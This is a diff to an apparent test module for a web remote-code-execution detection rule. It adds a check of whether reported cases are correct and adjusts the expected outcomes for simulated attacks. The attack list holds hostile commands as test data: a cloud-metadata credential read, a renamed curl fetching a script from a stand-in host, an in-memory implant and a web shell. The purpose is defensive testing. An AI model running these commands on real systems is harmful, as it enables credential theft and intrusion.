@@ -7,6 +7,7 @@ read, TMP the start of a name in /tmp, HOME a home folder.
 import shlex
 from collections.abc import Iterator, Sequence
 from dataclasses import dataclass, field
+from itertools import combinations
 
 from support.rules import WEB_RCE
 
@@ -17,6 +18,11 @@ def case(groups: str) -> str:
     """The case of a set of groups by the shipped rule, each group by its letter."""
     found = WEB_RCE.outcomes[WEB_RCE.mask(LETTERS[letter] for letter in groups)]
     return WEB_RCE.cases[found].name if found >= 0 else "silence"
+
+
+def severity(name: str) -> str:
+    """The severity of a case; "" for silence."""
+    return next((each.severity for each in WEB_RCE.cases if each.name == name), "")
 
 
 @dataclass(frozen=True)
@@ -34,12 +40,24 @@ class Attack:
     needs: Sequence[str] = field(default=())
     """Programs; "root", "container": only in services that run so; "php-files": only where PHP runs from files."""
 
+    plugin: bool = False
+    """On a host, only our plugin knows where the detached process came from."""
+
     seconds: float = 0
     """How long something goes on after the request."""
 
     def groups(self, kind: str) -> str:
         """The groups in a kind of place: on hosts the wget of an administrator is no network activity."""
         return (self.host or self.container) if kind == "host" else self.container
+
+    def is_told_by(self, found: str, kind: str) -> bool:
+        """Whether a case is right: that of all groups, or one as severe of some of them.
+
+        A better case of the same severity replaces the first without a notification.
+        """
+        groups = self.groups(kind)
+        some = {case("".join(chosen)) for size in range(len(groups)) for chosen in combinations(groups, size)}
+        return found == case(groups) or (found in some and severity(found) == severity(case(groups)))
 
 
 def _python(code: str) -> str:
@@ -120,6 +138,7 @@ ATTACKS = [
     Attack(
         "python metadata",
         _python(f"import urllib.request as u;print(u.urlopen('{METADATA}').read())"),
+        "WNC",
         "WC",
         proof="ASIA",
     ),
@@ -144,7 +163,7 @@ ATTACKS = [
         "WNC",
         talk=LOOT,
     ),
-    Attack("implant in memory", _python(MEMFD), "WN", talk=WHO),
+    Attack("implant in memory", _python(MEMFD), "WSN", talk=WHO),
     Attack("renamed curl", "cp /usr/bin/curl TMP.kworker && TMP.kworker -s http://A/x.sh", "WN", proof="id"),
     Attack(
         "dropped python script",
@@ -176,7 +195,7 @@ ATTACKS = [
         proof="TAG",
         seconds=2.5,
     ),
-    Attack("python daemon, later", _python(FORKS) + " && echo gone", "WC", proof="gone", seconds=2),
+    Attack("python daemon, later", _python(FORKS) + " && echo gone", "WSC", proof="gone", plugin=True, seconds=2),
     Attack("uploaded web shell", "", "WC", proof="none", needs=["php-files"]),
 ]
 
